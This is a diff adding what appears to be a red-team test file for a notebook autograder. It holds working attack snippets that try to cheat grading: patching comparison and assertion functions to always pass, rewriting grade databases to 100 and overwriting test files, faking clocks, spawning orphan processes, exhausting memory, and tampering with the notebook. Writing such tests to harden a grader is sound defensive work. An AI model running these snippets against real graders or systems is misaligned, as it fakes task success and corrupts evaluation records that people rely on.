@@ -1,0 +1,98 @@
+"""Red-team submissions: each attempts one attack from inside a learner's solution cell.
+
+Every attacker submits a wrong `sinusoidal_encoding` (zeros of the right shape) followed by the
+attack, and the reference code for the other functions; the `control` learner submits the same
+wrong code with no attack.  An attack gained nothing when no cell scores above the control's.
+"""
+MARKER = "987654"   # the sleep time of the orphan processes, to find any that survive
+
+WRONG = '''def sinusoidal_encoding(seq_len, d_model, base=10000.0):
+    return torch.zeros(seq_len, d_model)
+'''
+
+SNIPPETS = {
+    "control": "",
+    "patch_comparisons": '''
+import numpy.testing
+torch.allclose = lambda *a, **k: True
+torch.equal = lambda *a, **k: True
+torch.testing.assert_close = lambda *a, **k: None
+numpy.testing.assert_allclose = lambda *a, **k: None
+''',
+    "replace_assertion_error": '''
+import builtins
+class _Never(Exception):
+    pass
+builtins.AssertionError = _Never
+''',
+    "loot_filesystem": '''
+import os, sqlite3
+_found = 0
+for _root, _dirs, _files in os.walk("/"):
+    if _root.startswith(("/proc", "/sys", "/dev")):
+        _dirs[:] = []
+        continue
+    for _f in _files:
+        _path = os.path.join(_root, _f)
+        if _f.endswith(".db"):
+            try:
+                _c = sqlite3.connect(_path)
+                _c.execute("UPDATE grade SET auto_score = 100")
+                _c.commit()
+                print("wrote", _path)
+            except Exception:
+                pass
+        if _f.startswith("test") and _f.endswith(".py") or _f.endswith(".ipynb"):
+            _found += 1
+            if "site-packages" in _root or _root.startswith("/usr"):
+                continue
+            try:
+                print(_path, open(_path).read()[:20000])
+                with open(_path, "w") as _h:
+                    _h.write("def test_pass():\\n    pass\\n")
+                print("overwrote", _path)
+            except OSError:
+                pass
+print("files found:", _found)
+''',
+    "sys_exit": "\nimport sys\nsys.exit(0)\n",
+    "os_exit": "\nimport os\nos._exit(0)\n",
+    "spin": "\nwhile True:\n    pass\n",
+    "huge_output": "\nimport sys\nfor _ in range(300):\n    sys.stdout.write('x' * (1 << 20))\n",
+    "fake_clock": '''
+import time
+_now = [0.0]
+def _fake():
+    _now[0] += 1e-9
+    return _now[0]
+time.perf_counter = _fake
+time.monotonic = _fake
+time.time = _fake
+''',
+    "orphans": f'''
+import os, subprocess
+subprocess.Popen(["sleep", "{MARKER}"], start_new_session=True)
+if os.fork() == 0:
+    os.setsid()
+    os.execvp("sleep", ["sleep", "{MARKER}"])
+''',
+    "socket": '''
+import socket
+try:
+    socket.create_connection(("127.0.0.1", PORT), timeout=3).sendall(b"pwned")
+except OSError as _e:
+    print("no network:", _e)
+''',
+    "exhaust_memory": '''
+_hog = []
+try:
+    while True:
+        _hog.append(bytearray(1 << 28))
+except MemoryError:
+    pass
+_hog = None
+''',
+}
+
+# Attacks on the notebook file itself, applied to the control learner's notebook.
+NOTEBOOK_ATTACKS = ("edit_graded_cell", "delete_graded_cell", "change_grade_id", "fake_output", "corrupt_json")
